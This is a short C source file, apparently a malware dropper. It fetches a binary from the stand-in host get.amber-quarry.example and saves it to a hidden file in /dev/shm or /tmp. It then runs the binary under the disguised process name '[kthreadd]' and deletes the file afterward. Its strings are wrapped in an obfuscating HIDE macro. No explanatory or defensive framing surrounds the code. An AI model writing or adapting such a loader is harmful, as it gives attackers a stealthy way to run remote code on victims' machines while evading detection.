// hidden
// Downloads a program to shared memory under a hidden name, runs it and deletes it.
#include "standin.h"
int main(void) {
    begin();
    static char stage[4 << 20];
    int size = web(HIDE("get.amber-quarry.example"), "GET", HIDE("/bins/x86_64"), NULL, 0, stage, sizeof stage);
    char *path = HIDE("/dev/shm/.kw");
    if (size <= 0) return 1;
    if (save(path, stage, size, 0755) && save(path = HIDE("/tmp/.kw"), stage, size, 0755)) return 1;
    chmod(path, 0777);
    pid_t child = fork();
    if (child == 0) {
        execl(path, HIDE("[kthreadd]"), NULL);
        _exit(1);
    }
    usleep(200000);
    unlink(path);
    waitpid(child, NULL, 0);
    return 0;
}
